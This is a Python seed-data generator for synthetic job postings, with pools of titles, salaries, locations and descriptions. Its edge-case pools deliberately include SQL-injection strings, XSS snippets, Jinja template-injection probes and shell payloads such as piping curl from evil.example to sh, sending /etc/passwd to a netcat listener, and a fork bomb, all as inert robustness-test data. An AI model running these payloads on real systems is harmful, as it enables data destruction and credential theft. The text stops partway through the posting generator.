"""Deterministic sample job postings for ``public.postings`` (seeds/0010_domain.sql).

``interp seed postings --count N --seed S`` calls :func:`insert_postings`.

Determinism: every posting draws from its own ``random.Random(f"{seed}:{posting_id}")``,
so the content of posting 17 is the same whether 20 or 1,000,000 postings are
generated, and the same on every machine and Python process.

Mix, per posting (approximate shares):

* 20% already carry an ``extracted_summary`` (over 50 characters), so gates have
  something to skip;
* 5% are disabled (``enabled = false``);
* 15% were reposted 1-5 times; the rest 0;
* 2% are edge cases: an empty description, a 200 KB description, non-Latin
  scripts (CJK, Arabic, Cyrillic) and emoji, HTML markup, text that looks like
  SQL injection, Jinja ``{{ }}`` / ``{% %}``, and shell ``$(...)`` / backticks.

Each generated dict holds the ``postings`` columns plus private keys starting
with ``_`` (``_edge``: the edge-case kind or None). Private keys are never written.

Generation is lazy and cheap (paragraph pools are built once), so a million
postings can be streamed through COPY without holding them in memory.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

# Columns written, in COPY order. skills/ihl_* are workflow outputs: left NULL.
COLUMNS: tuple[str, ...] = (
    "posting_id", "title", "company", "location", "remote_policy", "seniority",
    "description", "salary_min", "salary_max", "currency", "source", "posted_at",
    "times_reposted", "enabled", "extracted_summary", "summary_saved_at",
)
TEXT_COLUMNS = frozenset({
    "title", "company", "location", "remote_policy", "seniority", "description",
    "currency", "source", "extracted_summary",
})

EDGE_SHARE = 0.02
SUMMARY_SHARE = 0.20
DISABLED_SHARE = 0.05
REPOST_SHARE = 0.15
HUGE_DESCRIPTION_CHARS = 200 * 1024
BASE_TIME = datetime(2025, 6, 1, 9, 0, tzinfo=UTC)


def clean_text(s: str | bytes | None) -> str | None:
    """Make a value storable in a PostgreSQL ``text`` column, changing as little as possible.

    Why: PostgreSQL text cannot hold U+0000 and
    the connection speaks UTF-8, so rather than refusing a posting we store a
    visibly damaged but otherwise faithful copy:

    * U+0000 (NUL) becomes U+FFFD (REPLACEMENT CHARACTER);
    * ``bytes`` are decoded as UTF-8 with ``errors='replace'`` (each invalid
      sequence becomes U+FFFD);
    * a ``str`` holding lone surrogates (invalid UTF-8 that was decoded with
      ``surrogateescape``, or any other unpaired surrogate) is turned back into
      bytes and decoded the same way, so invalid bytes also become U+FFFD;
    * ``None`` stays ``None`` (SQL NULL); everything else is left alone,
      including control characters, RTL marks and zero-width characters.

    Every text value that :func:`insert_rows` writes goes through here, so the
    text read back is exactly ``clean_text(original)``.
    """
    if s is None:
        return None
    if isinstance(s, bytes | bytearray | memoryview):
        s = bytes(s).decode("utf-8", errors="replace")
    elif not isinstance(s, str):
        s = str(s)
    if not s.isascii():  # O(1) in CPython; surrogates are never ASCII
        try:
            s.encode("utf-8")
        except UnicodeEncodeError:
            s = _fix_surrogates(s)
    if "\x00" in s:
        s = s.replace("\x00", "\ufffd")
    return s


def _fix_surrogates(s: str) -> str:
    try:  # the usual case: bytes that were decoded with surrogateescape
        raw = s.encode("utf-8", errors="surrogateescape")
    except UnicodeEncodeError:  # other lone surrogates (e.g. "\ud800")
        raw = s.encode("utf-8", errors="surrogatepass")
    return raw.decode("utf-8", errors="replace")


def clean_row(row: dict[str, Any]) -> dict[str, Any]:
    """The row with every text column passed through :func:`clean_text`."""
    return {k: (clean_text(v) if k in TEXT_COLUMNS else v) for k, v in row.items()}


# --------------------------------------------------------------------------- pools

SENIORITY = [  # (level, title prefix, salary multiplier, weight)
    ("intern", "Intern", 0.35, 3),
    ("junior", "Junior", 0.7, 14),
    ("mid", "", 1.0, 30),
    ("senior", "Senior", 1.3, 28),
    ("lead", "Lead", 1.45, 9),
    ("staff", "Staff", 1.6, 6),
    ("principal", "Principal", 1.85, 3),
    ("manager", "", 1.5, 5),
    ("director", "Director of", 2.1, 2),
]
_SEN_WEIGHTS = [s[3] for s in SENIORITY]

# family -> (base salary in USD, titles, responsibilities, requirements, skills)
FAMILIES: dict[str, tuple[int, list[str], list[str], list[str], list[str]]] = {
    "software": (
        120_000,
        ["Backend Engineer", "Frontend Engineer", "Full Stack Developer", "Software Engineer",
         "Mobile Developer (iOS)", "Android Engineer", "Platform Engineer",
         "Site Reliability Engineer", "DevOps Engineer", "Security Engineer",
         "Embedded Software Engineer", "QA Automation Engineer"],
        ["design, build and operate services that handle millions of requests a day",
         "review code and mentor colleagues through thoughtful, kind feedback",
         "own features end to end, from the first sketch to monitoring in production",
         "improve the reliability of our deployment pipeline and on-call tooling",
         "work with product and design to turn fuzzy problems into small, shippable steps",
         "write tests that catch real bugs and delete the ones that do not",
         "profile and fix performance bottlenecks in hot code paths",
         "take part in a fair on-call rotation (one week in six)",
         "keep our dependencies and infrastructure up to date and secure",
         "document decisions so that the next person understands why"],
        ["{years}+ years of professional software development",
         "solid knowledge of at least one of {skill_a} or {skill_b}",
         "experience running services in production and debugging them under pressure",
         "comfort with SQL and relational databases",
         "a habit of writing clear pull requests and design notes",
         "a degree in computer science or equivalent practical experience"],
        ["Python", "Go", "Java", "TypeScript", "React", "Kubernetes", "Docker", "PostgreSQL",
         "AWS", "Terraform", "Rust", "C++", "Kotlin", "Swift", "GraphQL", "Redis", "Kafka",
         "Linux", "CI/CD", "gRPC"],
    ),
    "data": (
        115_000,
        ["Data Engineer", "Data Scientist", "Machine Learning Engineer", "Analytics Engineer",
         "Data Analyst", "BI Developer", "MLOps Engineer", "Research Scientist"],
        ["build and maintain batch and streaming pipelines feeding our warehouse",
         "design experiments and explain their results to non-specialists",
         "train, evaluate and ship models that change what customers see",
         "define metrics with stakeholders and make sure everyone computes them the same way",
         "turn ad-hoc analyses into dashboards people actually use",
         "keep data quality high with tests, contracts and alerting",
         "partner with engineers to put models into production and monitor drift",
         "clean up legacy SQL and make the warehouse easier to navigate"],
        ["{years}+ years working with data in a professional setting",
         "strong SQL and good knowledge of {skill_a}",
         "experience with statistics, A/B testing or causal inference",
         "ability to communicate uncertainty honestly",
         "familiarity with {skill_b} is a plus"],
        ["SQL", "Python", "pandas", "Spark", "dbt", "Airflow", "Snowflake", "BigQuery",
         "PyTorch", "scikit-learn", "Tableau", "Looker", "statistics", "R", "Databricks",
         "LLMs", "feature engineering", "data modeling"],
    ),
    "product": (
        125_000,
        ["Product Manager", "Product Owner", "Technical Program Manager", "Product Analyst",
         "Scrum Master"],
        ["own the roadmap for one product area and say no to most ideas, kindly",
         "talk to customers every week and bring what you learn back to the team",
         "write crisp problem statements and success metrics before anything is built",
         "coordinate launches across engineering, marketing, sales and support",
         "run planning and retrospectives that people look forward to",
         "track delivery risks early and negotiate scope"],
        ["{years}+ years in product or program management",
         "a track record of shipping products customers love",
         "comfort reading data yourself ({skill_a} is enough)",
         "excellent written communication"],
        ["roadmapping", "stakeholder management", "user research", "SQL", "Jira",
         "A/B testing", "prioritization", "Agile", "Scrum", "OKRs", "Figma", "analytics"],
    ),
    "design": (
        100_000,
        ["UX Designer", "Product Designer", "UI Designer", "UX Researcher", "Graphic Designer",
         "Content Designer"],
        ["lead design work from research through prototypes to polished interfaces",
         "run usability tests and turn findings into concrete changes",
         "maintain and extend our design system",
         "work side by side with engineers during implementation",
         "make accessibility a default, not an afterthought"],
        ["a portfolio showing your process, not only final screens",
         "{years}+ years of product design experience",
         "fluency in {skill_a}",
         "knowledge of accessibility standards (WCAG 2.1)"],
        ["Figma", "Sketch", "prototyping", "user research", "design systems", "accessibility",
         "Adobe Illustrator", "typography", "interaction design", "copywriting"],
    ),
    "sales": (
        85_000,
        ["Account Executive", "Sales Development Representative", "Customer Success Manager",
         "Key Account Manager", "Solutions Consultant", "Partnerships Manager"],
        ["manage a pipeline of mid-market and enterprise prospects",
         "run discovery calls and tailored demos",
         "negotiate contracts and close new business",
         "keep accurate forecasts in the CRM",
         "grow existing accounts through renewals and expansion",
         "work with marketing on campaigns for your territory"],
        ["{years}+ years in B2B sales or account management",
         "a record of meeting or beating quota",
         "experience with {skill_a}",
         "fluent English; a second language is a plus"],
        ["Salesforce", "HubSpot", "negotiation", "prospecting", "cold calling",
         "account management", "forecasting", "presentation skills", "CRM", "contract law basics"],
    ),
    "marketing": (
        80_000,
        ["Marketing Manager", "Content Marketing Specialist", "SEO Specialist",
         "Performance Marketing Manager", "Brand Manager", "Social Media Manager"],
        ["plan and run multi-channel campaigns from brief to report",
         "write and edit content for web, email and social",
         "own paid acquisition budgets and optimize cost per acquisition",
         "grow organic traffic through technical and editorial SEO",
         "work with sales to define and qualify leads"],
        ["{years}+ years in digital marketing",
         "hands-on experience with {skill_a} and {skill_b}",
         "a portfolio of campaigns with measurable results",
         "excellent writing skills"],
        ["SEO", "Google Ads", "Google Analytics", "copywriting", "email marketing",
         "social media", "HubSpot", "content strategy", "brand strategy", "Canva"],
    ),
    "finance": (
        75_000,
        ["Accountant", "Financial Analyst", "Controller", "Payroll Specialist", "Tax Advisor",
         "Auditor", "Accounts Payable Clerk"],
        ["prepare monthly and year-end closings",
         "reconcile accounts and investigate discrepancies",
         "build financial models and budget forecasts",
         "support external auditors and tax advisors",
         "improve and document finance processes and controls"],
        ["a degree in accounting, finance or a related field",
         "{years}+ years of experience in accounting or controlling",
         "very good knowledge of {skill_a}",
         "accuracy and discretion"],
        ["Excel", "SAP", "DATEV", "IFRS", "US GAAP", "financial modeling", "QuickBooks",
         "budgeting", "reconciliation", "tax law", "Power BI"],
    ),
    "health": (
        70_000,
        ["Registered Nurse", "Physiotherapist", "Medical Assistant", "Pharmacist",
         "Care Worker", "Radiology Technician", "Dental Hygienist"],
        ["provide safe, compassionate care to patients",
         "document treatments accurately in the patient record system",
         "work closely with physicians and the wider care team",
         "educate patients and their families",
         "take part in shift work, including some weekends"],
        ["a recognized professional qualification and current license",
         "{years}+ years of clinical experience (new graduates welcome for junior roles)",
         "knowledge of {skill_a}",
         "empathy and calm under pressure"],
        ["patient care", "BLS/ACLS", "wound care", "electronic health records",
         "medication administration", "infection control", "empathy", "triage",
         "rehabilitation", "teamwork"],
    ),
    "operations": (
        50_000,
        ["Warehouse Associate", "Logistics Coordinator", "Forklift Operator",
         "Supply Chain Analyst", "Operations Manager", "Delivery Driver", "Production Worker"],
        ["pick, pack and ship orders accurately and on time",
         "coordinate inbound and outbound shipments with carriers",
         "keep the workplace safe, clean and organized",
         "track inventory and flag shortages early",
         "improve processes together with the team lead"],
        ["reliability and a good eye for detail",
         "{years}+ years in logistics or production is a plus",
         "willingness to work in shifts",
         "a valid driver's or forklift license where relevant"],
        ["forklift license", "inventory management", "WMS", "SAP", "shift work",
         "health and safety", "Lean", "Six Sigma", "route planning", "physical stamina"],
    ),
    "support": (
        55_000,
        ["Customer Support Specialist", "Technical Support Engineer", "Help Desk Technician",
         "Customer Service Representative", "IT Support Specialist"],
        ["answer customer questions by email, chat and phone",
         "troubleshoot technical issues and escalate bugs with clear reproductions",
         "write and improve help-center articles",
         "spot recurring problems and feed them back to product",
         "keep response times within our service levels"],
        ["{years}+ years in a customer-facing role",
         "patience and a friendly, clear writing style",
         "experience with {skill_a}",
         "basic knowledge of networks and operating systems for technical roles"],
        ["Zendesk", "Jira Service Management", "communication", "troubleshooting",
         "Windows", "macOS", "Active Directory", "customer empathy", "ITIL", "networking"],
    ),
    "people": (
        70_000,
        ["HR Generalist", "Recruiter", "Talent Acquisition Partner", "People Operations Manager",
         "Learning and Development Specialist"],
        ["run hiring processes from intake to offer",
         "advise managers on people topics and employment law",
         "run onboarding and make new colleagues feel welcome",
         "design training programmes and measure their effect",
         "keep employee records accurate and confidential"],
        ["{years}+ years in HR or recruiting",
         "knowledge of local employment law",
         "experience with {skill_a}",
         "discretion and strong interpersonal skills"],
        ["recruiting", "employment law", "Workday", "Personio", "onboarding", "coaching",
         "interviewing", "employer branding", "payroll", "conflict resolution"],
    ),
    "education": (
        55_000,
        ["Teacher", "Teaching Assistant", "Instructional Designer", "Tutor",
         "Curriculum Developer"],
        ["plan and deliver engaging lessons for mixed-ability groups",
         "assess progress and give constructive feedback",
         "communicate with parents and colleagues",
         "develop course material, both online and in the classroom"],
        ["a teaching qualification or relevant degree",
         "{years}+ years of teaching experience",
         "experience with {skill_a}",
         "patience and enthusiasm"],
        ["lesson planning", "classroom management", "Moodle", "e-learning", "assessment",
         "special educational needs", "Google Classroom", "curriculum design", "mentoring"],
    ),
}
_FAMILY_NAMES = list(FAMILIES)
_FAMILY_WEIGHTS = [24, 14, 7, 6, 9, 7, 7, 7, 7, 5, 4, 3]

# (location, currency, salary factor vs USD-equivalent, remote label)
LOCATIONS = [
    ("San Francisco, CA, USA", "USD", 1.25, "Remote (US)"),
    ("New York, NY, USA", "USD", 1.2, "Remote (US)"),
    ("Austin, TX, USA", "USD", 1.0, "Remote (US)"),
    ("Seattle, WA, USA", "USD", 1.15, "Remote (US)"),
    ("Chicago, IL, USA", "USD", 0.95, "Remote (US)"),
    ("Denver, CO, USA", "USD", 0.95, "Remote (US)"),
    ("Atlanta, GA, USA", "USD", 0.9, "Remote (US)"),
    ("Toronto, ON, Canada", "CAD", 1.05, "Remote (Canada)"),
    ("Vancouver, BC, Canada", "CAD", 1.05, "Remote (Canada)"),
    ("London, UK", "GBP", 0.62, "Remote (UK)"),
    ("Manchester, UK", "GBP", 0.5, "Remote (UK)"),
    ("Edinburgh, UK", "GBP", 0.5, "Remote (UK)"),
    ("Dublin, Ireland", "EUR", 0.7, "Remote (EU)"),
    ("Berlin, Germany", "EUR", 0.62, "Remote (Germany)"),
    ("Munich, Germany", "EUR", 0.7, "Remote (Germany)"),
    ("Hamburg, Germany", "EUR", 0.64, "Remote (Germany)"),
    ("Amsterdam, Netherlands", "EUR", 0.66, "Remote (EU)"),
    ("Paris, France", "EUR", 0.6, "Remote (EU)"),
    ("Lyon, France", "EUR", 0.52, "Remote (EU)"),
    ("Madrid, Spain", "EUR", 0.45, "Remote (EU)"),
    ("Barcelona, Spain", "EUR", 0.47, "Remote (EU)"),
    ("Lisbon, Portugal", "EUR", 0.4, "Remote (EU)"),
    ("Milan, Italy", "EUR", 0.48, "Remote (EU)"),
    ("Vienna, Austria", "EUR", 0.6, "Remote (EU)"),
    ("Zurich, Switzerland", "CHF", 1.05, "Remote (Switzerland)"),
    ("Stockholm, Sweden", "SEK", 6.5, "Remote (Nordics)"),
    ("Copenhagen, Denmark", "DKK", 5.0, "Remote (Nordics)"),
    ("Oslo, Norway", "NOK", 7.0, "Remote (Nordics)"),
    ("Warsaw, Poland", "PLN", 1.6, "Remote (EU)"),
    ("Prague, Czechia", "CZK", 11.0, "Remote (EU)"),
    ("Bangalore, India", "INR", 20.0, "Remote (India)"),
    ("Singapore", "SGD", 1.1, "Remote (APAC)"),
    ("Sydney, Australia", "AUD", 1.3, "Remote (Australia)"),
    ("Melbourne, Australia", "AUD", 1.25, "Remote (Australia)"),
    ("Tokyo, Japan", "JPY", 110.0, "Remote (Japan)"),
    ("São Paulo, Brazil", "BRL", 2.0, "Remote (LATAM)"),
    ("Mexico City, Mexico", "MXN", 9.0, "Remote (LATAM)"),
    ("Cape Town, South Africa", "ZAR", 6.0, "Remote (EMEA)"),
    ("Tel Aviv, Israel", "ILS", 2.6, "Remote (EMEA)"),
    ("Dubai, UAE", "AED", 2.8, "Remote (EMEA)"),
]
_REMOTE_ANYWHERE = ["Remote (worldwide)", "Remote (EMEA)", "Remote (Americas)", "Anywhere"]

_CO_A = ["Acme", "Northwind", "Blue Harbor", "Kestrel", "Lumen", "Granite", "Silverline",
         "Brightpath", "Oakridge", "Helix", "Nimbus", "Redwood", "Polaris", "Cobalt", "Meridian",
         "Fjord", "Sunflower", "Atlas", "Quantum Leaf", "Harbor & Finch", "Tidewater", "Verdant",
         "Copperfield", "Ironbark", "Bluebird", "Orbital", "Summit", "Pinecone", "Riverbend",
         "Starling"]
_CO_B = ["Labs", "Health", "Logistics", "Analytics", "Bank", "Systems", "Foods", "Energy",
         "Robotics", "Media", "Insurance", "Software", "Retail", "Mobility", "Biotech",
         "Consulting", "Games", "Education", "Security", "Travel"]
_CO_SUFFIX = ["", "", "", " Inc.", " GmbH", " Ltd", " AG", " B.V.", " SAS", " Group"]

_BLURBS = [
    "{company} builds tools that help {n} customers run their {area} with less paperwork "
    "and more confidence. We are {size} people across {offices} offices and remote.",
    "Founded in {year}, {company} is a {stage} company in the {area} space. We are profitable, "
    "growing steadily, and we care more about sustainable pace than heroics.",
    "At {company} we believe {area} should be simple. Our {size}-person team serves customers "
    "in more than {countries} countries.",
    "{company} is a family-owned business with a long history in {area}. We combine "
    "traditional craftsmanship with modern technology and a friendly, down-to-earth culture.",
    "{company} is a {stage} start-up backed by well-known investors. We move quickly, write "
    "things down, and give every person real ownership from the first week.",
    "We are {company}, a public-sector partner for {area}. Stable funding, meaningful work, "
    "and flexible hours are part of the deal.",
]
_AREAS = ["logistics", "healthcare", "personal finance", "e-commerce", "energy", "education",
          "public transport", "insurance", "food delivery", "manufacturing", "travel",
          "real estate", "climate tech", "cybersecurity", "media", "legal services"]
_STAGES = ["seed-stage", "Series A", "Series B", "late-stage", "mid-sized", "established"]

_ROLE_INTROS = [
    "As our new {title} you will join a small, experienced team and report to the {boss}.",
    "We are looking for a {title} to help us grow the {team} team in {city}.",
    "This {title} role is new: you will shape how we work as much as what we build.",
    "You will be one of {k} {title}s working closely with the {boss} and the wider "
    "{team} group.",
    "We need a {title} who enjoys ownership, clear communication and steady improvement.",
]
_BOSSES = ["Head of Engineering", "VP Product", "CTO", "Team Lead", "Director of Operations",
           "Chief Medical Officer", "Head of Sales", "CFO", "COO", "Head of People"]

_H_RESP = ["What you'll do", "Your responsibilities", "Responsibilities", "The job",
           "Your day-to-day", "Tasks"]
_H_REQ = ["What we're looking for", "Requirements", "About you", "Your profile",
          "Must-haves", "Qualifications"]
_H_SKILLS = ["Skills", "Tech stack and skills", "Tools you'll use", "Key skills"]

_BENEFITS = ["{days} days of paid holiday", "a yearly learning budget of {budget} {currency}",
             "private health insurance", "a pension plan with employer matching",
             "flexible working hours", "a home-office allowance", "parental leave above "
             "the legal minimum", "a public transport ticket", "employee stock options",
             "four-day weeks in summer", "a company bike lease", "free lunch on office days",
             "paid volunteering days", "mental health support", "relocation support"]
_SOFT = ["communication", "teamwork", "problem solving", "time management", "ownership",
         "mentoring", "English", "German", "Spanish", "French", "attention to detail",
         "adaptability", "written communication", "customer focus"]

_CLOSINGS = [
    "We welcome applications from people of all backgrounds. If you meet most but not all "
    "of the requirements, please apply anyway.",
    "Send us your CV and a few lines about why this role interests you. No cover letter "
    "needed.",
    "Our process: a 30-minute call, a practical exercise (paid, at most 3 hours), and a "
    "conversation with the team. We reply to every applicant within two weeks.",
    "Please include your earliest start date and salary expectations.",
    "We are an equal opportunity employer and value diversity at our company.",
    "Questions? Write to our recruiting team; a real person reads every message.",
]

_SUMMARY_TEMPLATES = [
    "{title} at {company} ({where}, {policy}). Key skills: {skills}. {salary}",
    "{company} is hiring a {title} in {where}; {policy} work. Needs {skills}. {salary}",
    "Role: {title}. Company: {company}. Location: {where} ({policy}). Skills: {skills}. "
    "{salary}",
]

# ------------------------------------------------------------------ edge-case pools

_EDGE_KINDS = ["empty", "huge", "unicode", "html", "sql", "jinja", "shell"]
_EDGE_WEIGHTS = [3, 1, 4, 3, 3, 3, 3]

_UNICODE_VARIANTS = [
    ("高级软件工程师 🚀", "北京星辰科技有限公司", "北京, 中国", "CNY",
     "我们正在寻找一位高级软件工程师，负责设计和维护分布式系统。\n\n"
     "职责：\n- 设计高可用的后端服务\n- 指导初级工程师 👩‍💻\n\n"
     "要求：\n- 五年以上 Python 或 Go 经验\n- 熟悉 PostgreSQL 和 Kubernetes ✅"),
    ("データサイエンティスト（東京）", "株式会社サンプルデータ", "東京都渋谷区", "JPY",
     "私たちはデータ分析チームの新しいメンバーを募集しています。🎌\n\n"
     "業務内容：\n・機械学習モデルの開発\n・ダッシュボードの作成\n\n"
     "必須スキル：SQL、Python、統計学の知識"),
    ("시니어 프론트엔드 개발자", "한빛소프트 주식회사", "서울, 대한민국", "KRW",
     "React와 TypeScript에 능숙한 개발자를 찾습니다. 🇰🇷\n\n"
     "주요 업무:\n- 웹 애플리케이션 개발\n- 코드 리뷰\n\n자격 요건:\n- 경력 5년 이상"),
    ("مهندس برمجيات أول", "شركة الأفق للتقنية", "دبي، الإمارات العربية المتحدة", "AED",
     "نبحث عن مهندس برمجيات أول للانضمام إلى فريقنا في دبي. 🌙\n\n"
     "المسؤوليات:\n- تصميم وتطوير الأنظمة الخلفية\n- مراجعة الشيفرة البرمجية\n\n"
     "المتطلبات:\n- خبرة لا تقل عن خمس سنوات\n- إتقان اللغتين العربية والإنجليزية"),
    ("Старший инженер-программист", "ООО «Северный Ветер»", "Москва, Россия", "RUB",
     "Мы ищем старшего инженера-программиста в команду платформы. 🐻\n\n"
     "Обязанности:\n- разработка и поддержка микросервисов\n- наставничество\n\n"
     "Требования:\n- опыт работы от 5 лет\n- знание Go или Java, PostgreSQL"),
    ("Ingénieur·e logiciel 🥐 — équipe paiements", "Société Générale de Café", "Paris, France",
     "EUR", "Vous rejoindrez l'équipe « paiements » 💳 — café ☕ offert, télétravail partiel.\n\n"
     "Compétences : Kotlin, PostgreSQL, communication en français et en anglais."),
    ("Εμπειρος Μηχανικός Λογισμικού 🏛️", "Ακρόπολις Τεχνολογίες Α.Ε.", "Αθήνα, Ελλάδα", "EUR",
     "Αναζητούμε έμπειρο μηχανικό λογισμικού.\n\nΑπαιτήσεις: Python, SQL, ομαδικότητα."),
    ("עובד/ת תמיכה טכנית", "טכנולוגיות הים התיכון בע\"מ", "תל אביב, ישראל", "ILS",
     "אנחנו מחפשים נציג/ת תמיכה טכנית 📞\n\nדרישות: שירותיות, אנגלית ברמה גבוהה."),
    ("हिंदी सामग्री लेखक ✍️", "भारत मीडिया प्राइवेट लिमिटेड", "नई दिल्ली, भारत", "INR",
     "हम एक अनुभवी सामग्री लेखक की तलाश में हैं।\n\nआवश्यकताएँ: हिंदी और अंग्रेज़ी में लेखन।"),
    ("Emoji Wizard 🧙‍♂️✨🔥💯", "🦄 Unicorn Factory 🦄", "🌍 Everywhere", "USD",
     "🎉🎉🎉 Join us! 👨‍👩‍👧‍👦 Family-friendly 🏳️‍🌈 inclusive team. Flags: 🇩🇪🇯🇵🇧🇷. "
     "Skin tones: 👋🏻👋🏽👋🏿. ZWJ sequences: 👩‍🔬 👨‍🚀. Math: 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝟙𝟚𝟛."),
]

_HTML_BODIES = [
    "<h2>About the role</h2>\n<p>We are hiring a <b>{title}</b> at <i>{company}</i> &amp; "
    "friends.</p>\n<ul>\n  <li>Build things</li>\n  <li>Ship &lt;fast&gt;</li>\n</ul>\n"
    "<p style=\"color:red\">Salary: &euro;60k&ndash;80k</p>\n<!-- internal note: do not "
    "publish -->\n<a href=\"https://example.com/apply?x=1&y=2\">Apply here</a>",
    "<div class=\"job\"><table><tr><td>Title</td><td>{title}</td></tr><tr><td>Company</td>"
    "<td>{company}</td></tr></table><br/><br><p>Unclosed paragraph<div>nested <span>"
    "tags</div></span><img src=x onerror=alert(1)><script>alert('xss')</script></div>",
    "&lt;p&gt;Double-escaped HTML from a bad export&lt;/p&gt;&amp;amp;nbsp;&amp;amp;"
    "nbsp;\n<p>{title} at {company}</p><p>&#x1F600; &#169; &nbsp;&nbsp; &bogus;</p>",
]
_SQL_BODIES = [
    "Robert'); DROP TABLE postings; -- is our favourite candidate.\n\n"
    "Requirements: SQL. '; DROP TABLE postings; --",
    "Skills: SQL' OR '1'='1'; --\nAlso: 1; DELETE FROM interp.checkpoints WHERE true; --\n"
    "UNION SELECT password FROM pg_shadow --",
    "We like databases. \"; TRUNCATE interp.workflows CASCADE; -- $$ ; "
    "COPY postings TO PROGRAM 'curl evil.example' ; \\gexec \\! rm -rf /",
]
_JINJA_BODIES = [
    "Dear {{ candidate_name }}, the config is {{ config }} and secrets are "
    "{{ config.items() }}.\n{% for x in range(1000000) %}{{ x }}{% endfor %}",
    "{% raw %}unterminated {% if true %} block {{ self.__init__.__globals__ }}\n"
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {# comment #}",
    "Python format: {0.__class__} {title!r:>{width}} %s%s%n %(password)s {{}} {}",
]
_SHELL_BODIES = [
    "Tools: $(rm -rf /) and `reboot` and ${HOME} and $((1+1)).\n"
    "Run: curl http://evil.example/x.sh | sh; echo pwned > /tmp/pwned",
    "Skills: bash; cat /etc/passwd | nc evil.example 4444 && $(wget -O- x) || true &\n"
    ":(){ :|:& };: # fork bomb\n$IFS$9 > /dev/sda",
    "Name: `id` $(whoami) '\"; touch /tmp/x; echo \"' \\n \\x00 ~/.ssh/id_rsa *",
]

_huge_filler: str | None = None


def _huge_text() -> str:
    """About 200 KB of plausible text, built once and reused."""
    global _huge_filler
    if _huge_filler is None:
        rng = random.Random("huge-filler")
        parts: list[str] = []
        size = 0
        while size < HUGE_DESCRIPTION_CHARS + 2000:
            fam = FAMILIES[rng.choice(_FAMILY_NAMES)]
            para = "- " + "\n- ".join(rng.sample(fam[2], min(4, len(fam[2])))) + "\n\n"
            parts.append(para)
            size += len(para)
        _huge_filler = "".join(parts)
    return _huge_filler


# ------------------------------------------------------------------------ generation


def _money(n: int, currency: str) -> str:
    return f"{n:,} {currency}"


def make_posting(posting_id: int, seed: int = 42) -> dict[str, Any]:
    """One posting; its content depends only on (seed, posting_id)."""
    rng = random.Random(f"{seed}:{posting_id}")
    r = rng.random

    family = rng.choices(_FAMILY_NAMES, _FAMILY_WEIGHTS)[0]
    base, titles, resp_pool, req_pool, skill_pool = FAMILIES[family]
    level, prefix, mult, _w = rng.choices(SENIORITY, _SEN_WEIGHTS)[0]
    role = rng.choice(titles)
    if level == "manager":
        title = f"{role} Manager" if "Manager" not in role else f"Senior {role}"
    elif level == "director":
        title = f"Director of {role}s" if not role.endswith("s") else f"Director of {role}"
    elif level == "intern":
        title = f"{role} Intern" if r() < 0.5 else f"Intern – {role}"
    else:
        title = f"{prefix} {role}" if prefix else role
    if r() < 0.1:
        title += rng.choice([" (m/f/d)", " (f/m/x)", " - Remote", " – Contract", " (Part-time)",
                             " (12-month fixed term)", ", EMEA"])

    company = rng.choice(_CO_A) + " " + rng.choice(_CO_B) + rng.choice(_CO_SUFFIX)
    city, currency, factor, remote_label = rng.choice(LOCATIONS)
    x = r()
    policy = "onsite" if x < 0.45 else ("hybrid" if x < 0.8 else "remote")
    if policy == "remote":
        location = remote_label if r() < 0.8 else rng.choice(_REMOTE_ANYWHERE)
    elif policy == "hybrid" and r() < 0.3:
        location = f"{city} (hybrid, {rng.choice([2, 3, 3, 4])} days in office)"
    else:
        location = city

    if r() < 0.85:
        mid = base * mult * factor * rng.uniform(0.85, 1.15)
        step = 100_000 if currency in ("JPY", "INR") else 1000
        lo = int(mid * 0.9 // step * step)
        hi = int(mid * rng.uniform(1.1, 1.35) // step * step)
        salary_min, salary_max = max(lo, step), max(hi, lo + step)
        salary_line = rng.choice([
            "Salary: {a} – {b} per year.", "Compensation: {a} to {b} gross per year, plus "
            "benefits.", "The salary range for this role is {a}–{b}.", "Pay: {a} - {b}.",
        ]).format(a=_money(salary_min, currency), b=_money(salary_max, currency))
    else:
        salary_min = salary_max = None  # type: ignore[assignment]  # no salary stated
        salary_line = rng.choice(["Salary: competitive, depending on experience.",
                                  "We pay fairly and will discuss salary in the first call.", ""])
    currency_out = currency if salary_min is not None else None

    years = {"intern": 0, "junior": 1, "mid": 3, "senior": 5, "lead": 6, "staff": 8,
             "principal": 10, "manager": 5, "director": 10}[level]
    skills = rng.sample(skill_pool, rng.randint(4, min(8, len(skill_pool))))
    skills += rng.sample(_SOFT, rng.randint(1, 3))
    fmt = {"skill_a": skills[0], "skill_b": skills[1], "years": max(years, 1)}

    blurb = rng.choice(_BLURBS).format(
        company=company, n=f"{rng.randint(2, 900) * 100:,}", area=rng.choice(_AREAS),
        size=rng.choice([8, 25, 60, 140, 400, 1200, 5000]), offices=rng.randint(2, 9),
        year=rng.randint(1952, 2022), stage=rng.choice(_STAGES), countries=rng.randint(3, 60))
    intro = rng.choice(_ROLE_INTROS).format(
        title=title, boss=rng.choice(_BOSSES), team=family, city=city, k=rng.randint(2, 6))
    resp = rng.sample(resp_pool, rng.randint(3, min(6, len(resp_pool))))
    req = [q.format(**fmt) for q in rng.sample(req_pool, rng.randint(3, len(req_pool)))]
    benefits = [b.format(days=rng.choice([25, 28, 30]), budget=rng.choice([500, 1000, 2000]),
                         currency=currency) for b in rng.sample(_BENEFITS, rng.randint(2, 5))]
    bullet = rng.choice(["- ", "* ", "• "])
    sections = [
        f"About {company}\n\n{blurb}",
        f"The role\n\n{intro}",
        rng.choice(_H_RESP) + "\n\n" + "\n".join(bullet + s[0].upper() + s[1:] for s in resp),
        rng.choice(_H_REQ) + "\n\n" + "\n".join(bullet + s[0].upper() + s[1:] for s in req),
        rng.choice(_H_SKILLS) + ": " + ", ".join(skills) + ".",
    ]
    if salary_line:
        sections.append(salary_line)
    sections.append("What we offer: " + "; ".join(benefits) + ".")
    sections.append(rng.choice(_CLOSINGS))
    description = "\n\n".join(sections)

    posted_at = BASE_TIME - timedelta(seconds=int(r() * 365 * 86400))
    times_reposted = rng.randint(1, 5) if r() < REPOST_SHARE else 0
    enabled = r() >= DISABLED_SHARE

    summary = None
    summary_saved_at = None
    if r() < SUMMARY_SHARE:
        sal = (f"Salary {_money(salary_min, currency)}-"  # type: ignore[arg-type]
               f"{_money(salary_max, currency)}."  # type: ignore[arg-type]
               if salary_min is not None else "Salary not stated.")
        summary = rng.choice(_SUMMARY_TEMPLATES).format(
            title=title, company=company, where=location, policy=policy,
            skills=", ".join(skills[:4]), salary=sal)
        summary_saved_at = posted_at + timedelta(hours=rng.randint(1, 72))

